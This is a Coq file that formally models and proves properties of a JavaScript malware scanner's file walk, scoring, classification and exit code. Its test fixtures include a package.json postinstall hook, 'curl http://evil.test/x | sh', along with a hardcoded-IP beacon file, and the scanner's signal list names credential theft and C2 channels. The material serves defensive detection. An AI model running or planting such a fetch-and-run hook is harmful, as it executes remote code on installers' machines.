Fixpoint sample_parse (files : list SampleFile) (text : jsstring) : option json :=
  match files with
  | [] => None
  | f :: files' =>
      if str_eqb text (Buffer_toString (sample_content f)) then sample_parsed f
      else sample_parse files' text
  end.

Definition sample_platform (files : list SampleFile) : Platform :=
  {| fs_stat := fun p =>
       option_map (fun f => {| size := N.of_nat (List.length (sample_content f)) |})
                  (sample_find files p);
     fs_readFile := fun p => option_map sample_content (sample_find files p);
     JSON_parse := sample_parse files;
     Number_toString := fun _ => u "0";
     io_time := fun p =>
       match sample_find files p with Some f => sample_io_time f | None => 0%N end;
     cpu_time := fun p =>
       match sample_find files p with Some f => sample_cpu_time f | None => 0%N end;
     cpus := 4 |}.

(** The defaults of the script, with a short timeout. *)
Definition default_config : Config :=
  {| MIN_SCORE := number_of_Z 60; INCLUDE_LOW := false;
     INSPECT_TIMEOUT := number_of_Z 100 |}.

Definition wallet_js : SampleFile :=
  {| sample_path := u "pkg/wallet.js";
     sample_content := ascii_bytes "28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2";
     sample_parsed := None;
     sample_io_time := 3;
     sample_cpu_time := 1 |}.

Definition beacon_js : SampleFile :=
  {| sample_path := u "pkg/beacon.js";
     sample_content := ascii_bytes "const host = '217.69.3.218';";
     sample_parsed := None;
     sample_io_time := 3;
     sample_cpu_time := 1 |}.

Definition slow_js : SampleFile :=
  {| sample_path := u "pkg/slow.js";
     sample_content := ascii_bytes "let x = 1;";
     sample_parsed := None;
     sample_io_time := 500;
     sample_cpu_time := 1 |}.

Definition postinstall_script : jsstring := u "curl http://evil.test/x | sh".

Definition manifest_json : json :=
  JObject [(u "name", JString (u "pkg"));
           (u "scripts", JObject [(u "postinstall", JString postinstall_script)]);
           (u "bin", JObject [(u "pkg", JString (u "cli.js"))])].

Definition package_json : SampleFile :=
  {| sample_path := u "pkg/package.json";
     sample_content :=
       json_bytes "{'name':'pkg','scripts':{'postinstall':'curl http://evil.test/x | sh'},'bin':{'pkg':'cli.js'}}";
     sample_parsed := Some manifest_json;
     sample_io_time := 2;
     sample_cpu_time := 1 |}.

Definition sample_tree : list SampleFile := [wallet_js; beacon_js; slow_js; package_json].

(** A source file that is read fast and matched slowly, as one that
    holds a very long identifier is: [INVIS_ID] then goes back over the
    identifier from each of its code units. *)
Definition heavy_js : SampleFile :=
  {| sample_path := u "pkg/heavy.js";
     sample_content := ascii_bytes "let y = 2;";
     sample_parsed := None;
     sample_io_time := 2;
     sample_cpu_time := 1300 |}.

(** The defaults of the script with a timeout of 2^31 ms. *)
Definition oversized_config : Config :=
  {| MIN_SCORE := number_of_Z 60; INCLUDE_LOW := false;
     INSPECT_TIMEOUT := number_of_Z 2147483648 |}.

(** A manifest with the [postinstall] script of [package_json] and, under
    [test], a script value that is an object with an own property
    [toString]. *)
Definition odd_value : json := JObject [(u "toString", JNumber (number_of_Z 1))].

Definition odd_scripts : list (jsstring * json) :=
  [(u "postinstall", JString postinstall_script); (u "test", odd_value)].

Definition odd_manifest_json : json := JObject [(u "scripts", JObject odd_scripts)].

Definition odd_package_json : SampleFile :=
  {| sample_path := u "pkg/package.json";
     sample_content :=
       json_bytes "{'scripts':{'postinstall':'curl http://evil.test/x | sh','test':{'toString':1}}}";
     sample_parsed := Some odd_manifest_json;
     sample_io_time := 2;
     sample_cpu_time := 1 |}.

(** Signals adding up to 55 and to 35. *)
Definition parts_55 : Parts :=
  {| invisInIdentifier := true; invisAnywhere := false; suspiciousWords := false;
     netFuncs := true; dangerous := false; shellDownload := false;
     hardcodedIp := false; b64UrlDecoded := false; pkgPostInstall := false;
     pkgExecNet := false; fileIsExecutableScript := false;
     knownC2Infrastructure := false; solanaBlockchainC2 := false;
     googleCalendarC2 := false; credentialTheft := false;
     vsCodeExtensionAPI := false; cryptoWalletTargeting := false;
     multipleSignals := 0 |}.

Definition parts_35 : Parts :=
  {| invisInIdentifier := false; invisAnywhere := false; suspiciousWords := false;
     netFuncs := false; dangerous := false; shellDownload := true;
     hardcodedIp := false; b64UrlDecoded := false; pkgPostInstall := false;
     pkgExecNet := false; fileIsExecutableScript := false;
     knownC2Infrastructure := false; solanaBlockchainC2 := false;
     googleCalendarC2 := false; credentialTheft := false;
     vsCodeExtensionAPI := false; cryptoWalletTargeting := false;
     multipleSignals := 0 |}.

(* ================================================================== *)
(** ** Auxiliary definitions of the proofs *)

(** The points a signal adds to the score. *)
Definition points (b : bool) (w : Z) : Z := if b then w else 0.

(** The tests of [scoreFinding] and what each adds, in the order of the
    function. *)
Definition score_rows (p : Parts) : list (bool * Z) :=
  [(invisInIdentifier p, 40); (invisAnywhere p, 10); (suspiciousWords p, 25);
   (netFuncs p, 15); (dangerous p, 25); (shellDownload p, 35); (hardcodedIp p, 20);
   (b64UrlDecoded p, 45); (pkgPostInstall p, 40); (pkgExecNet p, 30);
   (fileIsExecutableScript p, 10); (knownC2Infrastructure p, 60);
   (solanaBlockchainC2 p, 50); (googleCalendarC2 p, 50); (credentialTheft p, 35);
   (vsCodeExtensionAPI p, 20); (cryptoWalletTargeting p, 30);
   (Nat.leb 3 (multipleSignals p), 15)].

(** A table of a check on pairs of machine integers: [rows] values from
    [a] on, each against [cols] values from [b] on. *)
Fixpoint checked_row (check : int -> int -> bool) (a b : int) (cols : nat) : bool :=
  match cols with
  | O => true
  | S n => check a b && checked_row check a (b + 1)%uint63 n
  end.

Fixpoint checked_table (check : int -> int -> bool) (a b : int) (rows cols : nat) : bool :=
  match rows with
  | O => true
  | S n => checked_row check a b cols && checked_table check (a + 1)%uint63 b n cols
  end.

(** [weird > len * 0.1] against [len < 10 * weird]. *)
Definition tenth_check (len weird : int) : bool :=
  Bool.eqb (PrimFloat.ltb (PrimFloat.mul (PrimFloat.of_uint63 len) one_tenth)
                          (PrimFloat.of_uint63 weird))
           (Uint63.ltb len (10 * weird)%uint63).

(** [a < b] on numbers against [a < b] on integers. *)
Definition lt_check (a b : int) : bool :=
  Bool.eqb (PrimFloat.ltb (PrimFloat.of_uint63 a) (PrimFloat.of_uint63 b)) (Uint63.ltb a b).

(* ================================================================== *)
(** ** The directory walk *)

Definition IGNORE_DIRS : list jsstring :=
  [u ".git"; u ".hg"; u ".svn"; u "dist"; u "build"; u "coverage"; u "__tests__"].

(** An entry as [readdir] gives it with [withFileTypes]: a regular file,
    a directory together with what [readdir] gives for it in turn
    ([None]: that promise rejects), or anything else (a symbolic link, a
    socket, ...). *)
Inductive Dirent : Type :=
| File_entry (name : jsstring)
| Directory (name : jsstring) (entries : option (list Dirent))
| Other_entry (name : jsstring).

Section Walk.
(** [path.join] of Node. *)
Variable path_join : jsstring -> jsstring -> jsstring.

(** The [for] loop over the entries of [dir]: the directories it pushes
    and the calls of [cb] it makes, each in the order of the entries. *)
Fixpoint walk_entries (dir : jsstring) (ents : list Dirent)
  : list (jsstring * option (list Dirent)) * list (jsstring * jsstring) :=
  match ents with
  | [] => ([], [])
  | e :: ents' =>
      let rest := walk_entries dir ents' in
      match e with
      | Directory name entries =>
          if negb (includes IGNORE_DIRS name)
          then ((path_join dir name, entries) :: fst rest, snd rest)
          else rest
      | File_entry name => (fst rest, (path_join dir name, name) :: snd rest)
      | Other_entry _ => rest
      end
  end.

(** The [while] loop of [walk], giving the calls of [cb] in their order.
    The head of [stack] is the top, the last element of the array; a
    directory is paired with what [readdir] will give for it. *)
Fixpoint walk_loop (fuel : nat) (stack : list (jsstring * option (list Dirent)))
  : list (jsstring * jsstring) :=
  match fuel with
  | O => []
  | S fuel' =>
      match stack with
      | [] => []
      | (dir, None) :: stack' => walk_loop fuel' stack'
      | (dir, Some ents) :: stack' =>
          snd (walk_entries dir ents)
          ++ walk_loop fuel' (rev (fst (walk_entries dir ents)) ++ stack')
      end
  end.

(** The directories below an entry, itself included: a bound on the
    turns of the loop. *)
Fixpoint directories (e : Dirent) : nat :=
  match e with
  | Directory _ (Some ents) => S (list_sum (map directories ents))
  | Directory _ None => 1
  | _ => 0
  end.

Definition walk (root : jsstring) (listing : option (list Dirent))
  : list (jsstring * jsstring) :=
  walk_loop (S (directories (Directory root listing))) [(root, listing)].

(** [await walk(ROOT, (f) => queue.push(f))] *)
Definition main_queue (root : jsstring) (listing : option (list Dirent)) : list jsstring :=
  map fst (walk root listing).

(** The files of a directory, and below an entry of [dir], in the order
    of a depth-first walk that takes the last subdirectory first. *)
Definition files_here (dir : jsstring) (ents : list Dirent) : list (jsstring * jsstring) :=
  flat_map (fun e => match e with
                     | File_entry name => [(path_join dir name, name)]
                     | _ => []
                     end) ents.

Fixpoint files_below (dir : jsstring) (e : Dirent) : list (jsstring * jsstring) :=
  match e with
  | Directory name (Some ents) =>
      if includes IGNORE_DIRS name then []
      else files_here (path_join dir name) ents
           ++ List.concat (rev (map (files_below (path_join dir name)) ents))
  | _ => []
  end.

(** [listed dir ents full name]: the regular file [name] is found at
    [full] below the directory [dir] with entries [ents], through
    readable directories none of which has an ignored name. *)
Inductive listed (dir : jsstring) (ents : list Dirent) : jsstring -> jsstring -> Prop :=
| listed_here name :
    In (File_entry name) ents -> listed dir ents (path_join dir name) name
| listed_below sub below full name :
    In (Directory sub (Some below)) ents ->
    includes IGNORE_DIRS sub = false ->
    listed (path_join dir sub) below full name ->
    listed dir ents full name.
End Walk.

(* ================================================================== *)
(** ** The report and the exit code of [main] *)

(** [(a, b) => b.score - a.score || a.file.localeCompare(b.file)] *)
Definition compare_findings (localeCompare : jsstring -> jsstring -> Z) (a b : Finding) : Z :=
  if Z.eqb (score b - score a) 0 then localeCompare (file a) (file b)
  else score b - score a.

(** [Array.prototype.sort] with a comparator: the sort is stable, so for
    a consistent comparator the result is the one of any stable sort, as
    here of an insertion from the right. *)
Fixpoint sort_insert {A : Type} (cmp : A -> A -> Z) (x : A) (l : list A) : list A :=
  match l with
  | [] => [x]
  | y :: l' => if Z.ltb 0 (cmp x y) then y :: sort_insert cmp x l' else x :: y :: l'
  end.

Definition Array_sort {A : Type} (cmp : A -> A -> Z) (l : list A) : list A :=
  fold_right (sort_insert cmp) [] l.

(** What the script asks of [localeCompare]: a consistent comparator. *)
Record consistent (localeCompare : jsstring -> jsstring -> Z) : Prop := {
  compare_total : forall a b, 0 < localeCompare a b -> localeCompare b a < 0;
  compare_trans : forall a b c,
    localeCompare a b <= 0 -> localeCompare b c <= 0 -> localeCompare a c <= 0
}.

Definition Level_name (l : Level) : string :=
  match l with
  | critical => "critical"
  | high => "high"
  | medium => "medium"
  | low => "low"
  end.

(** [(acc[r.level] ||= []).push(r)]: the keys stay in the order in which
    they were first set. *)
Fixpoint group_push (r : Finding) (acc : list (Level * list Finding))
  : list (Level * list Finding) :=
  match acc with
  | [] => [(level r, [r])]
  | (k, rs) :: acc' =>
      if Level_eqb (level r) k then (k, rs ++ [r]) :: acc'
      else (k, rs) :: group_push r acc'
  end.

(** [out.reduce(..., {})] *)
Definition grouped (out : list Finding) : list (Level * list Finding) :=
  fold_left (fun acc r => group_push r acc) out [].

(** [grouped[k] || []] *)
Fixpoint group_of (g : list (Level * list Finding)) (k : Level) : list Finding :=
  match g with
  | [] => []
  | (k', rs) :: g' => if Level_eqb k k' then rs else group_of g' k
  end.

Definition summary (g : list (Level * list Finding)) : list (Level * nat) :=
  map (fun k => (k, List.length (group_of g k))) [critical; high; medium; low].

(** [summary[level]]; a key that is missing gives [undefined], and
    [undefined > 0] is false, as [0 > 0] is. *)
Fixpoint summary_count (s : list (Level * nat)) (k : Level) : nat :=
  match s with
  | [] => O
  | (k', n) :: s' => if Level_eqb k k' then n else summary_count s' k
  end.

Definition printable (g : list (Level * list Finding)) : list Finding :=
  slice (flat_map (group_of g) [critical; high; medium]) 0 500.

(** [process.env.FAIL_ON || 'critical'] *)
Definition FAIL_ON (env : option string) : string :=
  match env with
  | None | Some EmptyString => "critical"
  | Some s => s
  end.

Fixpoint indexOf (l : list Level) (name : string) : option nat :=
  match l with
  | [] => None
  | k :: l' =>
      if String.eqb (Level_name k) name then Some O
      else option_map S (indexOf l' name)
  end.

(** The exit code that the end of [main] computes from [FAIL_ON]. *)
Definition exitCode (fail_on : string) (s : list (Level * nat)) : Z :=
  if negb (String.eqb fail_on "none") then
    let levels := [critical; high; medium; low] in
    match indexOf levels fail_on with
    | Some failIndex =>
        if existsb (fun k => Nat.ltb 0 (summary_count s k)) (firstn (failIndex + 1) levels)
        then 1 else 0
    | None => 0
    end
  else 0.

(** [main] once the workers are through: the findings sorted and
    grouped, the summary, the findings for the console, and the status
    with which the process exits, [2] when writing the report fails. *)
Record Report := {
  report_findings : list (Level * list Finding);
  report_summary : list (Level * nat);
  report_printable : list Finding;
  exit_status : Z
}.

Definition main_report (localeCompare : jsstring -> jsstring -> Z) (fail_on : string)
  (written : bool) (out : list Finding) : Report :=
  let g := grouped (Array_sort (compare_findings localeCompare) out) in
  {| report_findings := g;
     report_summary := summary g;
     report_printable := printable g;
     exit_status := if written then exitCode fail_on (summary g) else 2 |}.

(** The standing of a class, [critical] first. *)
Definition Level_rank (l : Level) : nat :=
  match l with critical => 0 | high => 1 | medium => 2 | low => 3 end.

(** What [inspect] gives for a path when nothing intervenes. *)
Definition finding_of (P : Platform) (cfg : Config) (f : jsstring) : list Finding :=
  match fst (inspect P cfg f 0) with
  | Normal (Some finding) => [finding]
  | _ => []
  end.

(** The points of a reported signal, by its name. *)
Definition signal_points (entry : string * signal_value) : Z :=
  let name := fst entry in
  if String.eqb name "invisInIdentifier" then 40
  else if String.eqb name "invisAnywhere" then 10
  else if String.eqb name "suspiciousWords" then 25
  else if String.eqb name "netFuncs" then 15
  else if String.eqb name "dangerous" then 25
  else if String.eqb name "shellDownload" then 35
  else if String.eqb name "hardcodedIp" then 20
  else if String.eqb name "b64UrlDecoded" then 45
  else if String.eqb name "pkgPostInstall" then 40
  else if String.eqb name "pkgExecNet" then 30
  else if String.eqb name "fileIsExecutableScript" then 10
  else if String.eqb name "knownC2Infrastructure" then 60
  else if String.eqb name "solanaBlockchainC2" then 50
  else if String.eqb name "googleCalendarC2" then 50
  else if String.eqb name "credentialTheft" then 35
  else if String.eqb name "vsCodeExtensionAPI" then 20
  else if String.eqb name "cryptoWalletTargeting" then 30
  else if String.eqb name "multipleSignals" then
    match snd entry with
    | VCount n => if Nat.leb 3 n then 15 else 0
    | VTrue => 0
    end
  else 0.

(** A small tree to walk, and a comparison of paths by code units. *)
Definition sample_listing : list Dirent :=
  [ File_entry (u "index.js");
    Directory (u "dist") (Some [File_entry (u "bundle.js")]);
    Directory (u "lib") (Some [File_entry (u "a.js");
                               Directory (u "locked") None;
                               Directory (u "deep") (Some [File_entry (u "package.json")])]);
    Other_entry (u "link");
    File_entry (u "package.json") ].

Definition sample_join (dir name : jsstring) : jsstring := dir ++ u "/" ++ name.

(** Four paths of the sample tree, as [main] queues them: the workers
    take them from the end. *)
Definition sample_queue : list jsstring :=
  [sample_path slow_js; sample_path package_json; sample_path beacon_js;
   sample_path wallet_js].

Fixpoint code_unit_compare (a b : jsstring) : Z :=
  match a, b with
  | [], [] => 0
  | [], _ :: _ => -1
  | _ :: _, [] => 1
  | x :: a', y :: b' =>
      if N.ltb x y then -1 else if N.ltb y x then 1 else code_unit_compare a' b'
  end.

(* ================================================================== *)
(** ** Notions used in the statements *)

Definition signal_sum (l : list (string * signal_value)) : Z :=
  fold_right (fun entry acc => signal_points entry + acc) 0 l.

(** The signals a manifest can set. *)
Definition manifest_parts (post exec bin vscode : bool) : Parts :=
  {| invisInIdentifier := false; invisAnywhere := false; suspiciousWords := false;
     netFuncs := false; dangerous := false; shellDownload := false;
     hardcodedIp := false; b64UrlDecoded := false;
     pkgPostInstall := post; pkgExecNet := exec; fileIsExecutableScript := bin;
     knownC2Infrastructure := false; solanaBlockchainC2 := false;
     googleCalendarC2 := false; credentialTheft := false;
     vsCodeExtensionAPI := vscode; cryptoWalletTargeting := false;
     multipleSignals := 0 |}.

(** The order in which [main] sorts its findings: the higher score
    first, and among equal scores the path that [localeCompare] does not
    place behind. *)
Definition ranked (localeCompare : jsstring -> jsstring -> Z) (a b : Finding) : Prop :=
  score b < score a \/ (score a = score b /\ localeCompare (file a) (file b) <= 0).

(** The continuation with which a search calls the matcher. *)
Definition found : RegExp.cont := fun j c => Some (j, c).

(** A code unit is white space for [\s]. *)
Definition is_space (c : N) : bool := RegExp.class_matches false RegExp.space c.

(** A code unit of a snippet: no white space, or the space that was put
    for a run of white space. *)
Definition in_one_line (c : N) : Prop := is_space c = false \/ c = 32%N.

(** The white space at the head of a text. *)
Fixpoint leading_space (s : jsstring) : nat :=
  match s with
  | c :: s' => if is_space c then S (leading_space s') else 0
  | [] => 0
  end.

(** A text in which every run of white space has become one space;
    [in_run] tells that the code unit before was white space. *)
Fixpoint squeeze (in_run : bool) (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: s' =>
      if is_space c then (if in_run then squeeze true s' else 32%N :: squeeze true s')
      else c :: squeeze false s'
  end.

Definition broken_json : SampleFile :=
  {| sample_path := u "pkg/package.json";
     sample_content := ascii_bytes "{oops}";
     sample_parsed := None;
     sample_io_time := 1;
     sample_cpu_time := 1 |}.

Definition finding_40 (path : jsstring) : Finding :=
  {| file := path; level := medium; score := 40;
     signals := [("pkgPostInstall", VTrue); ("multipleSignals", VCount 1)];
     details := no_details |}.

Section WalkFiles.
Variable path_join : jsstring -> jsstring -> jsstring.

(** What the walk finds below a directory that is on the stack, and
    below all of them, the top first. *)
Definition listing_files (dir : jsstring) (listing : option (list Dirent))
  : list (jsstring * jsstring) :=
  match listing with
  | Some ents =>
      files_here path_join dir ents
      ++ List.concat (rev (map (files_below path_join dir) ents))
  | None => []
  end.

Definition stack_files (stack : list (jsstring * option (list Dirent)))
  : list (jsstring * jsstring) :=
  flat_map (fun d => listing_files (fst d) (snd d)) stack.

Definition stack_directories (stack : list (jsstring * option (list Dirent))) : nat :=
  list_sum (map (fun d => directories (Directory (fst d) (snd d))) stack).
End WalkFiles.

(** The literal [w] is read at [i] in [s], letter case apart under
    [ic]. *)
Fixpoint reads (ic : bool) (s : jsstring) (w : jsstring) (i : nat) : bool :=
  match w with
  | [] => true
  | c :: w' =>
      match nth_error s i with
      | Some x =>
          N.eqb (RegExp.canonicalize ic x) (RegExp.canonicalize ic c) && reads ic s w' (S i)
      | None => false
      end
  end.

(** The names that count as lifecycle scripts. *)
Definition lifecycle_names : list string :=
  ["postinstall"; "preinstall"; "install"; "prepare"; "prepublish"; "prepublishOnly"].

(** A match was found. *)
Definition accepted (r : option (nat * RegExp.captures)) : bool :=
  match r with Some _ => true | None => false end.

(** [\b] holds at [i]. *)
Definition boundary (s : jsstring) (i : nat) : bool :=
  xorb (RegExp.word_before s i) (RegExp.word_at s i).

(** The word [w] stands in [s] between two word boundaries. *)
Definition whole_word (ic : bool) (s : jsstring) (w : string) : Prop :=
  exists i, reads ic s (u w) i = true
            /\ boundary s i = true /\ boundary s (i + List.length (u w)) = true.

(** The code units that end a URL for [HTTP]: white space, the quotes,
    the backquote, the angle brackets and the braces. *)
Definition url_stops : list (N * N) :=
  RegExp.space ++ [RegExp.cp 34%N; RegExp.one "'"; RegExp.one "`"; RegExp.one "<";
                   RegExp.one ">"; RegExp.one "{"; RegExp.one "}"].

(** A code unit that may follow [://] in a URL. *)
Definition url_unit (x : N) : bool := negb (RegExp.in_ranges url_stops x).

(** [scheme] is read at [i] in [s], letter case apart, and a code unit of
    a URL follows. *)
Definition url_at (s : jsstring) (scheme : string) (i : nat) : Prop :=
  reads true s (u scheme) i = true
  /\ exists x, nth_error s (i + List.length (u scheme)) = Some x /\ url_unit x = true.

(** No line terminator stands in [s] from [i] up to [p]: the stretch
    that [.*] can pass. *)
Definition one_line (s : jsstring) (i p : nat) : Prop :=
  forall t x, (i <= t < p)%nat -> nth_error s t = Some x ->
              RegExp.is_line_terminator x = false.

(** A fetching command [w] stands at [i] as a whole word and, further on
    in the same line, at a word boundary [p], a scheme with [://]. *)
Definition fetches (s : jsstring) (w : string) (i p : nat) : Prop :=
  reads true s (u w) i = true
  /\ boundary s i = true /\ boundary s (i + List.length (u w)) = true
  /\ (i + List.length (u w) <= p)%nat /\ one_line s (i + List.length (u w)) p
  /\ boundary s p = true
  /\ (reads true s (u "http://") p = true \/ reads true s (u "https://") p = true).

(* ================================================================== *)
(** * Theorems *)

(** ** The content classifier *)

Lemma tenth_table_checked : checked_table tenth_check 0%uint63 0%uint63 4097 4097 = true.
Proof. vm_compute. reflexivity. Qed.

Lemma lt_table_checked : checked_table lt_check 0%uint63 0%uint63 101 4097 = true.
Proof. vm_compute. reflexivity. Qed.

Lemma of_Z_small z : 0 <= z < 2 ^ 20 -> Uint63.to_Z (Uint63.of_Z z) = z.
Proof.
  intros H. rewrite Uint63.of_Z_spec. apply Z.mod_small.
  change wB with (2 ^ 63). split; [lia|].
  apply Z.lt_trans with (2 ^ 20); [lia|]. reflexivity.
Qed.

Lemma of_Z_succ z : 0 <= z < 2 ^ 20 - 1 -> (Uint63.of_Z z + 1)%uint63 = Uint63.of_Z (z + 1).
Proof.
  intros H. apply Uint63.to_Z_inj.
  rewrite Uint63.add_spec, !of_Z_small by lia.
  change (Uint63.to_Z 1) with 1. apply Z.mod_small.
  change wB with (2 ^ 63). split; [lia|].
  apply Z.lt_trans with (2 ^ 20); [lia|]. reflexivity.
Qed.

Lemma checked_row_sound check a (cols : nat) : forall z,
  0 <= z -> z + Z.of_nat cols <= 2 ^ 16 ->
  checked_row check a (Uint63.of_Z z) cols = true ->
  forall y, z <= y < z + Z.of_nat cols -> check a (Uint63.of_Z y) = true.
Proof.
  induction cols as [|n IH]; intros z Hz Hn Hrow y Hy; [lia|].
  cbn [checked_row] in Hrow. apply andb_prop in Hrow as [Hhere Hrest].
  destruct (Z.eq_dec y z) as [->|Hne]; [exact Hhere|].
  rewrite of_Z_succ in Hrest by (change (2 ^ 20) with (16 * 2 ^ 16); lia).
  apply (IH (z + 1)); try assumption; lia.
Qed.

Lemma checked_table_sound check (rows cols : nat) : forall z,
  0 <= z -> z + Z.of_nat rows <= 2 ^ 16 -> Z.of_nat cols <= 2 ^ 16 ->
  checked_table check (Uint63.of_Z z) 0%uint63 rows cols = true ->
  forall x y, z <= x < z + Z.of_nat rows -> 0 <= y < Z.of_nat cols ->
  check (Uint63.of_Z x) (Uint63.of_Z y) = true.
Proof.
  induction rows as [|n IH]; intros z Hz Hr Hc Htab x y Hx Hy; [lia|].
  cbn [checked_table] in Htab. apply andb_prop in Htab as [Hrow Hrest].
  destruct (Z.eq_dec x z) as [->|Hne].
  - apply (checked_row_sound check _ cols 0); try assumption; lia.
  - rewrite of_Z_succ in Hrest by (change (2 ^ 20) with (16 * 2 ^ 16); lia).
    apply (IH (z + 1)); try assumption; lia.
Qed.

Lemma ltb_of_Z a b :
  0 <= a < 2 ^ 16 -> 0 <= b < 2 ^ 20 ->
  Uint63.ltb (Uint63.of_Z a) (Uint63.of_Z b) = (a <? b).
Proof.
  intros Ha Hb.
  assert (Ha' : 0 <= a < 2 ^ 20) by (change (2 ^ 20) with (16 * 2 ^ 16); lia).
  destruct (Z.ltb_spec a b) as [H|H].
  - apply Uint63.ltb_spec. rewrite !of_Z_small by assumption. exact H.
  - destruct (Uint63.ltb (Uint63.of_Z a) (Uint63.of_Z b)) eqn:F; [|reflexivity].
    apply Uint63.ltb_spec in F. rewrite !of_Z_small in F by assumption. lia.
Qed.

Lemma times_ten_of_Z w :
  0 <= w < 2 ^ 16 -> (10 * Uint63.of_Z w)%uint63 = Uint63.of_Z (10 * w).
Proof.
  intros Hw.
  assert (Hw' : 0 <= w < 2 ^ 20) by (change (2 ^ 20) with (16 * 2 ^ 16); lia).
  assert (H10 : 0 <= 10 * w < 2 ^ 20) by (change (2 ^ 20) with (16 * 2 ^ 16); lia).
  apply Uint63.to_Z_inj.
  rewrite Uint63.mul_spec, !of_Z_small by assumption.
  change (Uint63.to_Z 10) with 10. apply Z.mod_small.
  change wB with (2 ^ 63). split; [lia|].
  apply Z.lt_trans with (2 ^ 20); [lia|reflexivity].
Qed.

(** Up to 4096 sampled bytes, [weird > len * 0.1] in binary64 arithmetic
    decides [10 * weird > len]. *)
Lemma number_gt_tenth weird len :
  0 <= weird <= 4096 -> 0 <= len <= 4096 ->
  number_gt (number_of_Z weird) (PrimFloat.mul (number_of_Z len) one_tenth)
  = (len <? 10 * weird).
Proof.
  intros Hw Hl. unfold number_gt, number_lt, number_of_Z.
  pose proof (checked_table_sound tenth_check 4097 4097 0 ltac:(lia) ltac:(cbn; lia)
                ltac:(cbn; lia) tenth_table_checked len weird
                ltac:(cbn; lia) ltac:(cbn; lia)) as H.
  apply Bool.eqb_prop in H. rewrite H, times_ten_of_Z by (change (2 ^ 16) with 65536; lia).
  apply ltb_of_Z; [change (2 ^ 16) with 65536|change (2 ^ 20) with 1048576]; lia.
Qed.

(** Between a score and a threshold up to 4096, [<] on numbers is [<] on
    the integers. *)
Lemma number_lt_of_Z a b :
  0 <= a <= 100 -> 0 <= b <= 4096 ->
  number_lt (number_of_Z a) (number_of_Z b) = (a <? b).
Proof.
  intros Ha Hb. unfold number_lt, number_of_Z.
  pose proof (checked_table_sound lt_check 101 4097 0 ltac:(lia) ltac:(cbn; lia)
                ltac:(cbn; lia) lt_table_checked a b
                ltac:(cbn; lia) ltac:(cbn; lia)) as H.
  apply Bool.eqb_prop in H. rewrite H.
  apply ltb_of_Z; [change (2 ^ 16) with 65536|change (2 ^ 20) with 1048576]; lia.
Qed.

Lemma count_weird_all (l : Buffer) : forall weird,
  count_weird l (List.length l) weird
  = if existsb zero_byte l then None
    else Some (weird + Z.of_nat (List.length (filter weird_byte l))).
Proof.
  induction l as [|b l IH]; intros weird; cbn [count_weird List.length existsb filter].
  - f_equal. lia.
  - unfold zero_byte at 1, weird_byte at 1. cbv zeta.
    destruct (N.eqb (Byte.to_N b) 0); [reflexivity|].
    cbn [orb].
    destruct (N.ltb (Byte.to_N b) 9 || (N.ltb 13 (Byte.to_N b) && N.ltb (Byte.to_N b) 32));
      rewrite IH; destruct (existsb zero_byte l); try reflexivity;
      cbn [List.length]; f_equal; lia.
Qed.

Lemma count_weird_prefix (l : Buffer) : forall n weird,
  count_weird l n weird = count_weird (firstn n l) (List.length (firstn n l)) weird.
Proof.
  induction l as [|b l IH]; intros [|n] weird; try reflexivity.
  cbn [firstn List.length count_weird]. cbv zeta.
  destruct (N.eqb (Byte.to_N b) 0); [reflexivity|].
  destruct (N.ltb (Byte.to_N b) 9 || (N.ltb 13 (Byte.to_N b) && N.ltb (Byte.to_N b) 32));
    apply IH.
Qed.

Lemma firstn_min_length {A} (l : list A) n :
  firstn (Nat.min (List.length l) n) l = firstn n l.
Proof.
  destruct (Nat.le_ge_cases (List.length l) n) as [H|H].
  - rewrite Nat.min_l by exact H. rewrite !firstn_all2; auto.
  - rewrite Nat.min_r by exact H. reflexivity.
Qed.

Lemma isBinaryLikely_counts (buf : Buffer) :
  isBinaryLikely buf
  = if existsb zero_byte (firstn 4096 buf) then true
    else Z.of_nat (List.length (firstn 4096 buf))
         <? 10 * Z.of_nat (List.length (filter weird_byte (firstn 4096 buf))).
Proof.
  unfold isBinaryLikely.
  rewrite count_weird_prefix, firstn_min_length, count_weird_all.
  destruct (existsb zero_byte (firstn 4096 buf)); [reflexivity|].
  assert (Hlen : (List.length (firstn 4096 buf) <= 4096)%nat) by apply firstn_le_length.
  assert (Hw : (List.length (filter weird_byte (firstn 4096 buf))
                <= List.length (firstn 4096 buf))%nat) by apply filter_length_le.
  rewrite Nat.min_comm, <- length_firstn, Z.add_0_l.
  apply number_gt_tenth; lia.
Qed.

(** Claim C10.  [isBinaryLikely] depends on the first 4096 bytes only.  If
    one of them is zero the buffer is binary; otherwise it is binary
    exactly when more than a tenth of the sampled bytes are weird, that is
    below 9 or strictly between 13 and 32. *)
Theorem isBinaryLikely_sample_rule (buf : Buffer) :
  let sample := firstn 4096 buf in
  isBinaryLikely buf = isBinaryLikely sample
  /\ isBinaryLikely buf =
       if existsb zero_byte sample then true
       else Z.of_nat (List.length sample)
            <? 10 * Z.of_nat (List.length (filter weird_byte sample)).
Proof.
  cbv zeta. split; [|apply isBinaryLikely_counts].
  rewrite (isBinaryLikely_counts (firstn 4096 buf)), firstn_firstn, Nat.min_id.
  apply isBinaryLikely_counts.
Qed.

(** ** The scoring policy *)

(** Claim C7.  [classify] maps a score of 80 or more to critical, 60 to 79
    to high, 40 to 59 to medium and anything lower to low; at the
    boundaries, 79 is high, 80 critical, 59 medium, 60 high, 39 low and 40
    medium. *)
Theorem classify_boundaries (score : Z) :
  (80 <= score -> classify score = critical)
  /\ (60 <= score <= 79 -> classify score = high)
  /\ (40 <= score <= 59 -> classify score = medium)
  /\ (score < 40 -> classify score = low)
  /\ classify 79 = high /\ classify 80 = critical
  /\ classify 59 = medium /\ classify 60 = high
  /\ classify 39 = low /\ classify 40 = medium.
Proof.
  unfold classify.
  repeat split; try reflexivity; intros H;
    destruct (Z.leb_spec 80 score); destruct (Z.leb_spec 60 score);
    destruct (Z.leb_spec 40 score); try reflexivity; lia.
Qed.

Lemma classify_boundaries_witness :
  classify 95 = critical /\ classify 64 = high /\ classify 55 = medium /\ classify 35 = low.
Proof.
  destruct (classify_boundaries 95) as [H95 _].
  destruct (classify_boundaries 64) as (_ & H64 & _).
  destruct (classify_boundaries 55) as (_ & _ & H55 & _).
  destruct (classify_boundaries 35) as (_ & _ & _ & H35 & _).
  split; [apply H95; lia|].
  split; [apply H64; lia|].
  split; [apply H55; lia|apply H35; lia].
Defined.

Lemma scoreFinding_fold (p : Parts) :
  scoreFinding p
  = Z.min (fold_left (fun score (row : bool * Z) =>
                        if fst row then score + snd row else score)
                     (score_rows p) 0) 100.
